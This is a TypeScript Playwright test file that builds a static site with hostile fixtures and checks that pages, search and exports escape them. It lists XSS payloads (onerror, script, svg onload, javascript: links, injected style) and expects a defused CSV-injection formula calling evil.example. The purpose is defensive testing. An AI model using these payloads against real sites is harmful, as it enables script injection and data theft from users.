/**
 * Quality gate: hostile content, in real Chromium. The real content plus the
 * payloads of tests/fixtures/hostile/ (script, event handlers, javascript:
 * links, injected style, markup in a speaker's name) are built into a
 * temporary site; every page is opened and the search is run with the same
 * payloads, typed and in ?q=. Nothing may execute: any payload that runs
 * calls the trap or opens a dialog. The CSP is bypassed here on purpose, so
 * that escaping alone must hold (the CSP gate tests the policy itself).
 * The exports must be safe for their consumers too: no formula in a CSV
 * cell, no markup in what TimelineJS renders as HTML, and RSS and JSON that
 * parse.
 */
import { appendFileSync, cpSync, existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchBrowser } from '../../scripts/lib/browser.ts';
import { buildWith, cleanUp, root } from './build.ts';
import { csvRows } from './csv.ts';
import { serveStatic } from '../../scripts/lib/static-server.ts';

const fixtures = join(root, 'tests/fixtures/hostile');
/** What a reader might type or paste into the search box. */
const QUERIES = [
  "<img src=x onerror=__bayanTrap('q-img')>",
  "\"><script>__bayanTrap('q-script')</script>",
  "<svg onload=alert('q-svg')>",
  "javascript:__bayanTrap('q-js')",
  '</title><style>*{display:none}</style>',
  'الهاجري',
  "سامي <b onmouseover=__bayanTrap('q-name')>الهاجري",
];

let browser: Browser;
let context: BrowserContext;
let site: { baseURL: string; close: () => Promise<void> };
let dist: string;
const sprung: string[] = [];

beforeAll(async () => {
  const build = buildWith((content) => {
    for (const file of readdirSync(join(fixtures, 'articles'))) cpSync(join(fixtures, 'articles', file), join(content, 'articles', file));
    appendFileSync(join(content, 'speakers.yaml'), readFileSync(join(fixtures, 'speakers.yaml'), 'utf8'));
  });
  if (build.code !== 0) throw new Error(`the hostile site did not build:\n${build.output.slice(-3000)}`);
  dist = join(build.dir, 'dist');
  site = await serveStatic(dist);
  browser = await launchBrowser();
  context = await browser.newContext({ bypassCSP: true });
  await context.exposeFunction('__bayanTrap', (label: unknown) => sprung.push(`trap: ${String(label)}`));
});
afterAll(async () => {
  await browser?.close();
  await site?.close();
  cleanUp();
});

/** Open a page with a dialog listener (alert/confirm/prompt payloads). */
async function open(path: string): Promise<Page> {
  const page = await context.newPage();
  page.on('dialog', (dialog) => {
    sprung.push(`dialog on ${path}: ${dialog.message()}`);
    void dialog.dismiss();
  });
  // Scripts and error handlers have run by the load event.
  await page.goto(`${site.baseURL}${path}`, { waitUntil: 'load' });
  return page;
}

/** Markup that payloads would leave if any were parsed as HTML, listed by kind. */
function injected(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const found: string[] = [];
    for (const el of document.querySelectorAll('*')) {
      for (const attr of el.attributes) if (/^on/iu.test(attr.name)) found.push(`${el.localName}[${attr.name}]`);
      const href = el.getAttribute('href') ?? el.getAttribute('src') ?? '';
      if (/^\s*javascript:/iu.test(href)) found.push(`${el.localName} → ${href.slice(0, 40)}`);
    }
    for (const el of document.querySelectorAll('img, svg, iframe, object, embed, style')) found.push(`<${el.localName}>`);
    for (const script of document.scripts) {
      // JSON-LD is data, never run; it may quote a payload but must stay one intact JSON value.
      if (script.type === 'application/ld+json') {
        try {
          JSON.parse(script.text);
        } catch {
          found.push('JSON-LD broken open');
        }
      } else if (script.text.includes('__bayanTrap')) found.push('<script> with a payload');
    }
    return found;
  });
}

/** Every cell of a CSV file. */
const csvCells = (text: string): string[] => csvRows(text).flat();

const htmlPages = () =>
  readdirSync(dist, { recursive: true, encoding: 'utf8' })
    .filter((f) => f.endsWith('index.html') || f === '404.html')
    .map((f) => `/${f.replace(/index\.html$/u, '')}`);

describe('hostile content', () => {
  it('reaches the site: the payload statements are extracted and shown as text', () => {
    expect(existsSync(join(dist, 'speakers/hostile-speaker/index.html'))).toBe(true);
    const events = readdirSync(join(dist, 'events')).filter((id) => id.startsWith('2022-0'));
    expect(events.length).toBeGreaterThanOrEqual(3);
    const article = readFileSync(join(dist, 'articles/2022-03-01-hostile-script-payloads/index.html'), 'utf8').replaceAll('&#39;', "'");
    // Raw HTML in the Markdown is escaped, not dropped: the reader sees what the source said.
    expect(article).toContain("&lt;script&gt;__bayanTrap('block-script')&lt;/script&gt;");
    expect(article).toContain('&lt;style&gt;body { display: none }');
  });

  it('no page runs a payload or carries injected markup', async () => {
    const pages = htmlPages();
    expect(pages.length).toBeGreaterThan(40);
    const problems: string[] = [];
    for (const path of pages) {
      const page = await open(path);
      problems.push(...(await injected(page)).map((what) => `${path}: ${what}`));
      await page.close();
    }
    expect(problems).toEqual([]);
    expect(sprung).toEqual([]);
  });

  it('exports are safe: no formula opens a CSV cell, no markup in TimelineJS headlines, RSS and JSON parse', async () => {
    const csv = csvCells(readFileSync(join(dist, 'timeline.csv'), 'utf8'));
    // The payloads reached the file, defused with a leading apostrophe (OWASP's rule for CSV injection).
    expect(csv).toContain('\'=HYPERLINK("https://evil.example/?"&A2,"انقر هنا")');
    expect(csv).toContain("'@وكالة");
    expect(csv.filter((cell) => /^[=+\-@\t\r]/u.test(cell))).toEqual([]);

    const timelineJs = JSON.parse(readFileSync(join(dist, 'timelinejs.json'), 'utf8')) as {
      events: { text: { headline: string; text: string }; start_date: { display_date: string }; group: string }[];
    };
    const rendered = timelineJs.events.flatMap((e) => [e.text.headline, e.text.text, e.start_date.display_date, e.group]);
    expect(rendered.some((html) => html.includes('جون&#60;img src=x onerror=__bayanTrap'))).toBe(true);
    // TimelineJS sets these with innerHTML: the only tags are the ones the export writes itself.
    expect(rendered.flatMap((html) => html.match(/<(?!\/?p>|a href="https:\/\/[^"<>]+">|\/a>)[^>]*>/gu) ?? [])).toEqual([]);

    expect(() => JSON.parse(readFileSync(join(dist, 'timeline.json'), 'utf8')) as unknown).not.toThrow();
    const page = await context.newPage();
    const rss = readFileSync(join(dist, 'rss.xml'), 'utf8');
    const error = await page.evaluate(
      (xml) => new DOMParser().parseFromString(xml, 'application/xml').querySelector('parsererror')?.textContent ?? '',
      rss,
    );
    await page.close();
    expect(error).toBe('');
  });

  it('search runs the payloads, typed and from ?q=, without running them', async () => {
    const typed = await open('/');
    const box = typed.getByRole('searchbox');
    const problems: string[] = [];
    for (const query of QUERIES) {
      await box.fill(query);
      await typed.waitForSelector('bayan-search[data-ready]');
      await typed.waitForTimeout(150);
      problems.push(...(await injected(typed)).map((what) => `typed ${query.slice(0, 20)}: ${what}`));
    }
    // The hostile speaker is found, and the result card shows the name as text.
    await box.fill('الهاجري');
    await expect.poll(() => typed.locator('[data-search-results] a').count()).toBeGreaterThan(0);
    expect(await typed.locator('[data-search-results]').textContent()).toContain('<b onmouseover');
    await typed.close();
    for (const query of QUERIES) {
      const page = await open(`/?q=${encodeURIComponent(query)}`);
      await page.waitForSelector('bayan-search[data-ready]');
      await page.waitForTimeout(150);
      problems.push(...(await injected(page)).map((what) => `?q=${query.slice(0, 20)}: ${what}`));
      await page.close();
    }
    expect(problems).toEqual([]);
    expect(sprung).toEqual([]);
  });
});
